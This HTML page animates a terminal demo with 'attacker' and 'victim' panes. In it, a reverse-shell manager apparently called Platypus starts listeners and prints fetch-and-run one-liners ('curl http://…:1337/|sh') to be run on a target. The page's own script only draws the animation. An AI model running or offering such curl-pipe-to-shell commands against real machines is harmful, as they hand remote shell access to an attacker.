
An HTML page that plays this animation: 1000x560 px, repeating every 3440 ms.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Two terminals</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #000; }
svg { display: block; width: 100vw; height: 100vh; }
text { white-space: pre; text-rendering: geometricPrecision; }
.mono { font: 10.866px "DejaVu Sans Mono", monospace; }
.bold { font-weight: bold; }
.tab { font: 8px "Open Sans", "Noto Sans", sans-serif; }
</style>
</head>
<body>
<svg id="stage" viewBox="0 0 1000 560"></svg>
<script>
const LOOP = 3440, COLS = 153, COL = 6.542, ROW = 13.53, TOP = 18.6, LOW = 302;
const GREEN = "#006400", BLUE = "#1e90ff", WHITE = "#fff", PINK = "#c800c8";
const USER = "tamivor";
const stage = document.getElementById("stage");

function add(tag, attrs, text) {
  const el = document.createElementNS("http://www.w3.org/2000/svg", tag);
  for (const k in attrs) el.setAttribute(k, attrs[k]);
  if (text !== undefined) el.textContent = text;
  return stage.appendChild(el);
}
const rect = (x, y, width, height, fill) => add("rect", { x, y, width, height, fill });
const path = (d, stroke, width = 1) => add("path", { d, stroke, "stroke-width": width, fill: "none" });
const mono = (top, row, col, fill, text, cls = "mono") =>
  add("text", { x: col * COL, y: top + row * ROW + 10.3, fill, class: cls }, text);

function cursorBox(x, y) {
  return add("rect", { x: x + 0.5, y: y + 0.5, width: COL - 0.6, height: ROW - 1,
    fill: GREEN, stroke: "#009a00", "stroke-width": 0.9 });
}

// mid is the vertical centre of the bar
function tabBar(mid, tabWidth, color, ink, cross, dotX, label) {
  const y = mid - 8.2, h = 15.6;
  rect(0, y, 1000, h, "#e8e8e8");
  rect(0, y, tabWidth, h, color);
  rect(tabWidth, y, 12, h, "#fafafa");
  rect(tabWidth + 12, y, 0.7, h, "#c0c0c0");
  add("circle", { cx: dotX, cy: mid, r: 2.4, fill: "#0a9a28" });
  add("text", { x: dotX + 5.6, y: mid + 3, fill: ink, class: "tab" }, "1 " + label);
  path(`M${dotX + 5.8} ${mid + 4.1}h4.2`, ink, 0.7);
  const x = tabWidth - 7.5;
  path(`M${x - 2} ${mid - 2}l4 4m0 -4l-4 4`, cross, 0.8);
  path(`M${tabWidth + 3.2} ${mid}h6m-3 -3v6`, "#333", 0.9);
  add("path", { d: `M989 ${mid - 2.8}v5.6l-3.2 -2.8zM995 ${mid - 2.8}v5.6l3.2 -2.8z`, fill: "#b4b4b4" });
}

function statusBar(top, left, right) {
  rect(0, top + 18 * ROW, 1000, ROW, GREEN);
  mono(top, 18, COLS - right.length, "#000", right);
  return mono(top, 18, 0, "#000", left);
}

rect(0, 0, 1000, 560, "#000");
tabBar(8.2, 141, "#0a86dc", WHITE, "#cfe6f8", 3.6, "Ubuntu Desktop x64 20.04.1");
rect(0, 15, 1000, 1, "#6aa9d8");
tabBar(291.4, 140, "#8f8f8f", "#111", "#e0e0e0", 6.6, "Ubuntu Server x64 20.04.1");
rect(0, 282.4, 1000, 0.9, "#1a78c0");
rect(0, 298.6, 1000, 0.9, "#8a9299");

const status = statusBar(TOP, "[attacker]0:bash*", `"bash | ${USER}@ubuntu" 17:12 12-Apr-21`);
statusBar(LOW, "[victim] 0:zsh*", `"${USER}" 17:12 12-Apr-21`);
mono(LOW, 0, 0, "#19c319", "➜", "mono bold");
mono(LOW, 0, 3, "#22d6e6", "~", "mono bold");
cursorBox(5 * COL, LOW);

const at33 = "2021/04/12 17:12:33 ";
const serving = (id, port) => `${at33}Server running at: [${id}] 0.0.0.0:${port} (0 online clients) (started at: now)`;
const curl = (ip, port) => `${at33}    \`curl http://${ip}:${port}/|sh\``;
const LOCAL = "127.0.0.1", LAN = "192.168.88.129";

// Each line: time it appears, colour, text
const lines = [
  [0, WHITE, `${USER}@ubuntu:~$ ./Platypus_linux_amd64`],
  [500, BLUE, "2021/04/12 17:12:32 Detecting the latest version..."],
  [1590, GREEN, at33 + "Current version is the latest"],
  [1900, BLUE, serving("9f17eb56e2a85d74f4b78694410f079f", 1337)],
  [1900, PINK, curl(LOCAL, 1337)],
  [1900, PINK, curl(LAN, 1337)],
  [2070, BLUE, at33 + "RESTful HTTP Server running at 127.0.0.1:7331"],
  [2070, WHITE, serving("d45707738e540fe1eb9d0a1ce7df6e0e", 1338)],
  [2070, PINK, curl(LOCAL, 1338)],
  [2070, PINK, curl(LAN, 1338)],
  [2070, BLUE, "»"]
].map(([from, fill, text], row) => ({ from, el: mono(TOP, row, 0, fill, text) }));

// Each state: start time, column, row, filled
const cursorStates = [
  [0, 41, 0, false], [330, 0, 1, false], [500, 0, 2, false],
  [1590, 0, 3, true], [1900, 0, 6, false], [2070, 2, 10, true]
];
const titles = [[0, "bash"], [330, "xonsh"], [1590, "./Platypus_linux_amd64"]];
const cursor = cursorBox(0, TOP);

const ibeam = (x, y) => path(`M${x + 1} ${y + 0.5}h2l.5 .5l.5 -.5h2m-2.5 .5v11m-2.5 .5h2l.5 -.5l.5 .5h2`, "#ccc", 0.8);
const pointers = [
  { from: 130, to: 330, el: ibeam(734, 145) },
  { from: 2550, to: 2710, el: ibeam(993, 160) }
];

const show = (el, on) => el.setAttribute("visibility", on ? "visible" : "hidden");
const current = (states, t) => states.filter(s => s[0] <= t).pop();

function render(t) {
  lines.forEach(l => show(l.el, t >= l.from));
  pointers.forEach(p => show(p.el, t >= p.from && t < p.to));
  const [, col, row, filled] = current(cursorStates, t);
  cursor.setAttribute("transform", `translate(${col * COL} ${row * ROW})`);
  cursor.setAttribute("fill", filled ? GREEN : "none");
  status.textContent = `[attacker]0:${current(titles, t)[1]}*`;
}

const start = performance.now();
function tick() {
  render((performance.now() - start) % LOOP);
  requestAnimationFrame(tick);
}
render(0);
requestAnimationFrame(tick);
</script>
</body>
</html>
```
